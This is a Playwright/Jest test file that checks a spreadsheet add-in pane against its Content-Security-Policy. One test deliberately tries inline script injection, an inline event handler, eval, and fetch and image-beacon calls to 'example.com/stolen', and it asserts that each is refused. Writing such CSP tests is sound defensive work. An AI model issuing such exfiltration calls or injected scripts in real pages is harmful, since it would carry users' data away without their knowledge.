import type { Frame } from "playwright-core";
import { openWorkbench, type OpenWorkbench } from "./support/openWorkbench";
import { paneFrame } from "./support/paneFrame";
import { showView } from "./support/showView";

jest.setTimeout(120_000);

let workbench: OpenWorkbench;
beforeEach(async () => {
  workbench = await openWorkbench({ viewport: { width: 1200, height: 900 } });
  await frame().evaluate(() => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
      refused.push(`${effectiveDirective} ${blockedURI}`);
    });
  });
});
afterEach(async () => {
  await workbench.close();
});

const frame = (): Frame => paneFrame(workbench.page);

const refused = (): Promise<string[]> =>
  frame().evaluate(() => (window as unknown as { refused: string[] }).refused);

test("every view, a calculated formula and the loaded template keep to the pane's Content-Security-Policy", async () => {
  const { pane } = workbench;
  await workbench.call("write", "Sheet1", "A1", "=OURO.RUNWAY(12,4)");
  await workbench.idle();
  expect(await workbench.call("read", "Sheet1", "A1")).toEqual([[3]]);
  for (const view of ["Formulas", "Network", "What if", "Import and export", "Deals"]) {
    await showView(pane, view);
  }
  await pane.getByRole("button", { name: "中文" }).click();
  await pane.getByRole("tab", { name: "交易" }).waitFor();
  expect(await refused()).toEqual([]);
  expect(workbench.complaints).toEqual([]);
});

test("the policy refuses code made of text, scripts within the page, and what would carry data away", async () => {
  const made = await frame().evaluate(async () => {
    // What the debugger runs may use eval whatever the policy says; a task of the page's own may not.
    await new Promise((resolve) => setTimeout(resolve, 0));
    const script = document.createElement("script");
    script.textContent = "window.ranInline = true";
    document.body.append(script);
    const handler = document.createElement("button");
    handler.setAttribute("onclick", "window.ranHandler = true");
    handler.click();
    const evaluated = await attempt(() => (0, eval)("1"));
    const sent = await attempt(() => fetch("https://example.com/stolen"));
    const picture = Object.assign(new Image(), { src: "https://example.com/stolen.png" });
    const beacon = await attempt(() => picture.decode());
    const { ranInline, ranHandler } = window as { ranInline?: true; ranHandler?: true };
    return { evaluated, sent, beacon, ranInline, ranHandler };

    async function attempt(act: () => unknown): Promise<string> {
      try {
        await act();
        return "done";
      } catch {
        return "refused";
      }
    }
  });
  expect(made).toEqual({
    evaluated: "refused",
    sent: "refused",
    beacon: "refused",
  });
  const directives = (await refused()).map((text) => text.split(" ")[0]);
  expect(new Set(directives)).toEqual(
    new Set(["script-src-elem", "script-src-attr", "script-src", "connect-src", "img-src"]),
  );
});
